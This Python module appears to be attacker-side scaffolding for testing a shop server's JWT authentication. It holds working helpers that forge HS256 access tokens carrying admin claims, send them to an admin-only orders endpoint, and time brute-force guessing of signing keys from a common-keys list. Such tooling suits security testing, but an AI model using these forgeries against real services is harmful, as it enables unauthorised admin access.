"""What an attacker has, and the tools of the trade. Ready to use."""

import base64
import hmac
import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import requests

ADMIN = {"user_id": "1"}  # the first account of a shop is nearly always the admin's
COMMON_KEYS = Path(__file__).with_name("common_keys.txt").read_text(encoding="utf-8").splitlines()


@dataclass(frozen=True)
class Loot:
    """What somebody has who broke in nowhere: an account of their own, and what lies around."""

    url: str  # of the server
    access: str  # the token pair of the own account
    refresh: str
    public_key: str = ""  # PEM; whoever has a key pair publishes this half of it
    other_service: str = ""  # a token that another service gave to its own user 1
    expired: str = ""  # an access token of the own account that expired yesterday
    log: str = ""  # the last lines of the server's log
    admin_opens: Callable[[str], object] = print  # show the admin a path of the shop, in a real browser


def present(loot: Loot, token: str, path: str = "/orders/") -> requests.Response:
    """The response to this token; without a token, to none. `/orders/` is for admins only."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return requests.get(f"{loot.url}{path}", headers=headers, timeout=10)


def forged(loot: Loot, key: bytes, **header: object) -> str:
    """The own access token, rewritten to be the admin's: with this header, and signed with this key (HMAC, SHA-256)."""
    text = f"{encoded(header)}.{encoded(claims_of(loot.access) | ADMIN)}"
    return f"{text}.{signature(text, key)}"


def signature(text: str, key: bytes) -> str:
    """The third part of a token, as HS256 makes it from the first two and a key."""
    return base64url(hmac.digest(key, text.encode(), "sha256"))


def guesses_per_second(token: str, seconds: float = 0.5) -> float:
    """How many keys this machine tries on a token in a second, with one core and plain Python."""
    text, _, real_signature = token.rpartition(".")
    tried, begin = 0, time.perf_counter()
    while time.perf_counter() < begin + seconds:
        tried += signature(text, b"guess %d" % tried) != real_signature
    return tried / seconds


def claims_of(token: str) -> dict:
    payload = token.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))


def encoded(part: dict) -> str:
    return base64url(json.dumps(part).encode())


def base64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
